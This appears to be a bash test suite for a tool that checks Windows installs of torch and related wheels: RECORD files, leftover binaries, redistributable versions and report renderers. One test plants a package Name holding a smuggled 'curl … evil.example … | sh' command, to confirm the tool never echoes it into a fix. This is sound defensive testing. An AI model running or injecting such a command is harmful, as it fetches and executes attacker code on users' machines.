#!/usr/bin/env bash
# shellcheck disable=SC2016  # jq programs in single quotes
# test_verdicts: verdicts and fixes that must match the install at hand, on
# REAL wheels (tests/lib/wheels.py, cached) installed whole next to torch
# 2.9.1 (tests/lib/trees/wheels.sh):
#
#   a METADATA Name that is not a PEP 508 name (a shell command in it) never
#   reaches a fix: the distribution is said to be invalid, in every renderer;
#   a RECORD saved with a UTF-8 byte-order mark is read as pip wrote it (no
#   "deleted" _C.pyd), and a row `torch/lib/c10.dll.` names c10.dll (Windows
#   drops the last component's trailing dots), neither deleted nor leftover;
#   PyQt5 and PyQt5-Qt5 share site-packages\PyQt5: a file one of them lists
#   in its RECORD is no leftover of the other;
#   a folder link in an extension's package folder is not followed by the
#   leftover scan (a link up to torch\lib, a link to itself).
TEST_NAME=verdicts
export TEST_NAME
# shellcheck source=tests/lib/start.sh
source "$(dirname "${BASH_SOURCE[0]}")/../lib/start.sh"
source "$TDC_REPO/tests/lib/fixtures.sh"
source "$TDC_REPO/tests/lib/wheels.sh"
source "$TDC_REPO/tests/lib/trees/wheels.sh"
WORK=$tmp
PY='C:\Python311\python.exe'
SP=Python311/Lib/site-packages

# tree NAME TORCH [PROJECT==VERSION...]: torch TORCH with those wheels installed whole; status 1 and $WORK/why
# when a wheel is missing.
tree() {
	local name=$1 tv=$2 base w ws=()
	shift 2
	base=$WORK/torch-$tv
	if [ ! -d "$base" ]; then
		w=$(wheel_fetch torch "$tv" 2>"$WORK/why") || return 1
		wheel_tree "$base" "$w" >/dev/null 2>"$WORK/why" || return 1
		tree_redist "$base" 14.44.35112 2>/dev/null
	fi
	for w in "$@"; do
		ws+=("$(wheel_fetch "${w%%==*}" "${w#*==}" 2>"$WORK/why")") || return 1
	done
	tree_variant "$base" "$WORK/$name" && tree_extensions "$WORK/$name" "${ws[@]}" 2>"$WORK/why"
}
C() { "$B" check --root "$WORK/$1" --python "$PY" "${@:2}" --json 2>"$WORK/check.err"; }
J() { C "$1" "${@:3}" | jq -c "$2" 2>&1; }
st() { "$B" check --root "$WORK/$1" --python "$PY" "${@:2}" >/dev/null 2>&1; echo $?; }
# every renderer's output of `check` on tree $1, into $WORK/$1.all
renders() {
	C "$1" "${@:2}" >"$WORK/$1.json"
	{
		cat "$WORK/$1.json"
		"$B" check --root "$WORK/$1" --python "$PY" "${@:2}" 2>&1
		for f in text sarif github; do "$B" report --in "$WORK/$1.json" --format "$f" 2>&1; done
		"$B" report --in "$WORK/$1.json" --format github --summary "$WORK/$1.md" --outputs '' >/dev/null 2>&1
		cat "$WORK/$1.md"
	} >"$WORK/$1.all"
}

if tree tv 2.9.1 torchvision==0.24.1; then
	tvi=$(echo "$WORK/tv/$SP"/torchvision-*.dist-info)
	# ---- item 12: a Name with a shell command in it
	cp -al "$WORK/tv" "$WORK/evil" 2>/dev/null || cp -a "$WORK/tv" "$WORK/evil"
	evi=$WORK/evil/$SP/$(basename "$tvi")
	sed 's/^Name: .*/Name: hx; curl -s https:\/\/evil.example\/x|sh; echo/' "$tvi/METADATA" >"$evi/METADATA.new"
	rm -f "$evi/METADATA" && mv "$evi/METADATA.new" "$evi/METADATA"
	rm -f "$WORK/evil/$SP/torchvision/image.pyd" # a listed binary deleted: a finding whose fix would reinstall it
	renders evil
	check_eq "a Name that is a shell command: its files are still judged (image.pyd deleted)" 'true' \
		"$(jq -c '[.findings[] | select(.rule == "deleted-after-install")] | length > 0' "$WORK/evil.json")"
	check_eq "...and no renderer puts the name into a command (no fix holds it)" '0|0' \
		"$(grep -c 'pip install[^`]*hx' "$WORK/evil.all")|$(jq '[.findings[] | .fix // "" | select(contains("curl"))] | length' "$WORK/evil.json")"
	check_cmd "...the distribution is said to be invalid" grep -q 'not a valid distribution' "$WORK/evil.all"

	# ---- item 11: a RECORD with a UTF-8 BOM; a row with a trailing dot
	cp -al "$WORK/tv" "$WORK/bom" 2>/dev/null || cp -a "$WORK/tv" "$WORK/bom"
	ti=$(echo "$WORK/bom/$SP"/torch-*.dist-info)
	{ printf '\xef\xbb\xbf'; cat "$ti/RECORD"; } >"$ti/RECORD.new"
	rm -f "$ti/RECORD" && mv "$ti/RECORD.new" "$ti/RECORD"
	check_eq "a torch RECORD saved with a byte-order mark: no finding of RECORD's, exit as without it" \
		"[]|$(st tv)" \
		"$(J bom '[.findings[] | select(.rule | test("deleted|changed|leftover|record"))| .title]')|$(st bom)"
	cp -al "$WORK/tv" "$WORK/dot" 2>/dev/null || cp -a "$WORK/tv" "$WORK/dot"
	ti=$(echo "$WORK/dot/$SP"/torch-*.dist-info)
	sed 's#^torch/lib/c10.dll,#torch/lib/c10.dll.,#' "$ti/RECORD" >"$ti/RECORD.new"
	rm -f "$ti/RECORD" && mv "$ti/RECORD.new" "$ti/RECORD"
	check_cmd "(the RECORD row is torch/lib/c10.dll.)" grep -q '^torch/lib/c10.dll\.,' "$ti/RECORD"
	check_eq "a RECORD row c10.dll. is c10.dll: neither deleted nor leftover" "[]|$(st tv)" \
		"$(J dot '[.findings[] | select(.rule | test("deleted|changed|leftover|record")) | .title]')|$(st dot)"

	# ---- item 9: folder links in torchvision's package folder
	cp -al "$WORK/tv" "$WORK/links" 2>/dev/null || cp -a "$WORK/tv" "$WORK/links"
	ln -s ../torch/lib "$WORK/links/$SP/torchvision/up"
	ln -s . "$WORK/links/$SP/torchvision/self"
	check_eq "links in torchvision's folder: not followed (no leftover of torch's c10.dll, no _C.pyd twice), exit as without them" \
		"[]|$(st tv)" \
		"$(J links '[.findings[] | select(.rule == "leftover-binary") | .binary]')|$(st links)"

	# ---- item 10: the caps are said, and never a pass
	cp -al "$WORK/tv" "$WORK/many" 2>/dev/null || cp -a "$WORK/tv" "$WORK/many"
	msp=$WORK/many/$SP
	for i in $(seq -w 0 500); do
		mkdir -p "$msp/ext$i" "$msp/ext$i-1.0.dist-info"
		ln "$msp/torchvision/_C.pyd" "$msp/ext$i/_C.pyd"
		printf 'Name: ext%s\nVersion: 1.0\n' "$i" >"$msp/ext$i-1.0.dist-info/METADATA"
		printf 'ext%s/_C.pyd,,\next%s-1.0.dist-info/RECORD,,\n' "$i" "$i" >"$msp/ext$i-1.0.dist-info/RECORD"
	done
	check_eq "502 extensions: the 2 beyond the 500 checked are a warning finding, the verdict WARN, not PASS" \
		'[["warning","2 extensions beyond the first 500 were not checked"]]|2|WARN' \
		"$(J many '[.findings[] | select(.rule == "not-checked") | [.severity, .title]]')|$(J many '.installs[0].environment.extensions_not_checked')|$("$B" check --root "$WORK/many" --python "$PY" 2>/dev/null | head -1 | cut -d' ' -f1)"
	renders many
	check_eq "...said in every renderer (JSON, text, SARIF, annotations, summary)" '1|1|1|1|1' \
		"$(grep -c '"title":.*2 extensions beyond the first 500' "$WORK/many.json")|$("$B" check --root "$WORK/many" --python "$PY" 2>&1 | grep -c '2 extensions beyond the first 500')|$("$B" report --in "$WORK/many.json" --format sarif | jq '[.runs[0].results[] | select(.ruleId == "not-checked")] | length')|$("$B" report --in "$WORK/many.json" --format github | grep -c '^::warning .*2 extensions beyond the first 500')|$(grep -c '2 extensions beyond the first 500' "$WORK/many.md" | sed 's/^[1-9][0-9]*$/1/')"
	rm -rf "$WORK/many"
else
	skip "torch 2.9.1 with torchvision 0.24.1" "$(cat "$WORK/why")"
fi

# ---- item 8: PyQt5 and PyQt5-Qt5 share site-packages\PyQt5
if tree qt 2.9.1 PyQt5-Qt5==5.15.2 PyQt5==5.15.11; then
	check_eq "PyQt5 + PyQt5-Qt5, --import-first PyQt5: no file PyQt5-Qt5's RECORD lists is PyQt5's leftover" '0' \
		"$(J qt '[.findings[] | select(.rule == "leftover-binary")] | length' --import-first PyQt5)"
	echo 'x' >"$WORK/qt/$SP/PyQt5/Qt5/bin/stray.dll"
	check_eq "...while a DLL no RECORD lists still is one" '["stray.dll"]' \
		"$(J qt '[.findings[] | select(.rule == "leftover-binary") | .leaf]' --import-first PyQt5)"
	rm -f "$WORK/qt/$SP/PyQt5/Qt5/bin/stray.dll"
	# ---- item 15: under --import-first the 1114's fix is the order, as the plain run's warning says
	check_eq "--import-first PyQt5: every 1114 error's fix is 'import torch before PyQt5' first, no 'latest redistributable'" \
		'[true]|0' \
		"$(J qt '[.findings[] | select(.severity == "error" and .winerror == 1114) | .fix | startswith("import torch before PyQt5")] | unique' --import-first PyQt5)|$(J qt '[.findings[] | select(.severity == "error") | .fix | select(contains("latest VC++"))] | length' --import-first PyQt5)"
else
	skip "PyQt5 5.15.11 + PyQt5-Qt5 5.15.2" "$(cat "$WORK/why")"
fi
# ---- items 16, 17: the 14.34 redistributable (System32's DLLs and its registry key)
printf 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\VisualStudio\\14.0\\VC\\Runtimes\\x64]\r\n"Installed"=dword:00000001\r\n"Version"="v14.34.31931.00"\r\n' >"$WORK/134.reg"
for tv in 2.9.1 2.8.0; do
	if w=$(wheel_fetch torch "$tv" 2>"$WORK/why") && wheel_tree "$WORK/r$tv" "$w" >/dev/null 2>"$WORK/why" &&
		tree_redist "$WORK/r$tv" 14.34.31931 2>"$WORK/why"; then
		"$B" check --root "$WORK/r$tv" --python "$PY" --registry "$WORK/134.reg" --json >"$WORK/r$tv.json" 2>/dev/null
		echo $? >"$WORK/r$tv.rc"
	else
		skip "torch $tv on the 14.34 redistributable" "$(cat "$WORK/why")"
		rm -rf "$WORK/r$tv"
	fi
done
if [ -d "$WORK/r2.9.1" ]; then
	check_eq "torch 2.9.1 on 14.34: one cause, one problem (c10.dll's 1114, no redist-too-old), the redistributable's facts in it, exit 1" \
		'[["runtime-too-old",1114]]|1|true|1' \
		"$(jq -c '[.findings[] | select(.severity == "error") | [.rule, .winerror]] | unique' "$WORK/r2.9.1.json")|$(jq '[.findings[] | select(.severity == "error") | .cause] | unique | length' "$WORK/r2.9.1.json")|$(jq '[.findings[] | select(.rule == "runtime-too-old")][0].message | contains("records v14.34")' "$WORK/r2.9.1.json")|$(cat "$WORK/r2.9.1.rc")"
	check_eq "torch 2.9.1 on 14.34: the 1114 fix also offers an older torch, where the matrix says this copy serves it" \
		'[true]' \
		"$(jq -c '[.findings[] | select(.winerror == 1114) | .fix | contains("; or: torch < 2.9 (matrix row torch-2.8")] | unique' "$WORK/r2.9.1.json")"
	rm -rf "$WORK/r2.9.1"
fi
if [ -d "$WORK/r2.8.0" ]; then
	check_eq "torch 2.8.0 on 14.34: every binary loads: the row's minimum is a warning, not an error; exit 0" \
		'true|[]|[["redist-too-old","warning"]]|0' \
		"$(jq '[.installs[0].binaries[] | .outcome == "loads"] | all' "$WORK/r2.8.0.json")|$(jq -c '[.findings[] | select(.severity == "error") | .rule]' "$WORK/r2.8.0.json")|$(jq -c '[.findings[] | select(.rule == "redist-too-old") | [.rule, .severity]]' "$WORK/r2.8.0.json")|$(cat "$WORK/r2.8.0.rc")"
	rm -rf "$WORK/r2.8.0"
fi
tap_done
